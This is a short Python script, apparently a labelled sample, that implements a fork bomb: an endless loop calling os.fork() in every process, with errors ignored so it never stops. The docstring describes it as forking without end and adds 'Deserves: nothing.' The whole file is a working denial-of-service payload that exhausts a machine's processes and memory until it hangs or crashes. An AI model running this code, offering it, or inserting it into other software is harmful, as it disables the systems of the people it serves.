"""Forks without end, every child as well.

Deserves: nothing.
"""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
